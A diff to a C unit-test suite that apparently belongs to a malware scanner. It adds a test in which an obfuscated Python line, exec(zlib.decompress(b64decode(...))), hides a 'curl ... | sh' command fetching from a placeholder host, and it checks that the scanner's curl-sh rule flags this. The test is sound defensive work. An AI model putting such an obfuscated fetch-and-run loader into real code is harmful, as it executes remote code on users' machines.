@@ -661,6 +661,26 @@ START_TEST(base64_of_utf16)
 }
 END_TEST
 
+/* exec(zlib.decompress(b64decode(...))): base64 of a zlib stream, inflated
+ * (bounded) and read; a stream that does not inflate is left alone. */
+START_TEST(base64_of_zlib)
+{
+	struct finding_list fl;
+
+	scan_str("a.py", "exec(zlib.decompress(b64decode('eJxLLi3KUdBNKw72UcgoKSmw"
+	    "0tev0M9UqFEozlBQVkjMS1Eozs9NVcjNL0pVKM8vSinmAgCSrRAx')))\n", &fl);
+	ck_assert_ptr_nonnull(tu_first(&fl, "curl-sh"));
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "decoded base64 "
+	    "(compressed): curl -fsSL http://x/i | sh # and some more words");
+	finding_list_free(&fl);
+	/* The same with its deflate data damaged. */
+	scan_str("a.py", "exec(zlib.decompress(b64decode('eJxLLi3KUdBNKw72UcgoKSmw"
+	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')))\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
 START_TEST(empty_and_nul_and_invalid_utf8)
 {
 	static const char odd[] = "\xff\xfe\0x = " TOKEN " \xc3\n";
@@ -935,6 +955,7 @@ engine_suite(void)
 	tcase_add_test(tc, binary_strings);
 	tcase_add_test(tc, normalised_view);
 	tcase_add_test(tc, base64_of_utf16);
+	tcase_add_test(tc, base64_of_zlib);
 	tcase_add_test(tc, empty_and_nul_and_invalid_utf8);
 	tcase_add_test(tc, finding_cap_is_unscannable);
 	tcase_add_test(tc, read_error_is_unscannable);
